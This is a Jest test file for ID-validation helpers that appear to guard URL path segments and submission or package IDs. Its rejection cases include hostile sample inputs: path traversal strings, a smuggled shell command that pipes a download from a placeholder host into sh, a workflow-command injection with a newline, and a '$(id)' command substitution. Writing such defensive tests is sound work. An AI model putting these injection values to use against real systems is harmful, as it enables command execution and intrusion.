import { describe, expect, it } from '@jest/globals'
import {
  checkId,
  GUID,
  PACKAGE_ID,
  pathSegment,
  SUBMISSION_ID,
  UnexpectedIdError
} from '../../../src/boundary/ids.js'

describe('pathSegment', () => {
  it.each([
    'd12d2ea1-1fe4-4152-8b5e-c7ab22b70c7f',
    '1152921505697732943',
    'Listing',
    'testdrive',
    'a3343618-63b9-98bd-b6b5-41c3d6f0fbf7'
  ])('passes the id %s as it is', (id) => {
    expect(pathSegment(id, 'id')).toBe(id)
  })

  it.each([
    '..',
    '.',
    '',
    '../products',
    'a/b',
    'a\\b',
    '%2e%2e',
    '.hidden',
    'x?y',
    'x#y',
    '1;curl evil|sh',
    'id\n::stop-commands::x',
    'a'.repeat(129)
  ])('refuses %j, naming it', (id) => {
    expect(() => pathSegment(id, 'submission id')).toThrow(UnexpectedIdError)
    expect(() => pathSegment(id, 'submission id')).toThrow(/The submission id "/)
  })
})

describe('checkId', () => {
  it('holds the shapes of the recordings and §3.5', () => {
    expect(checkId('d12d2ea1-1fe4-4152-8b5e-c7ab22b70c7f', GUID, 'product id')).toBeTruthy()
    expect(checkId('1152921505697732943', SUBMISSION_ID, 'submission id')).toBeTruthy()
    expect(checkId('2152924500012534075', PACKAGE_ID, 'package id')).toBeTruthy()
    expect(() => checkId('$(id)', SUBMISSION_ID, 'submission id')).toThrow(
      /submission id "\$\(id\)" does not have the expected shape/
    )
    expect(() => checkId('not-a-guid', GUID, 'product id')).toThrow(UnexpectedIdError)
  })
})
